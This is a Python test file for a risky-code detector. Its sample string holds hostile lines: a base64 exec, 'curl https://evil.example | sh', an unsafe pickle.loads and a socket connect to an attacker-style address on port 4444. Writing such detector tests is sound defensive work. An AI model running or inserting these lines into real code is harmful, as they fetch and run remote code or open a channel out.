from snippet_check.risks import find

BAD = """
import os, pickle, socket
exec(__import__('base64').b64decode('cHJpbnQoMSk='))
os.system('curl https://evil.example | sh')
pickle.loads(b'...')
s = socket.socket(); s.connect(('203.0.113.5', 4444))
"""


def test_all_found():
    assert len(find(BAD)) == 4
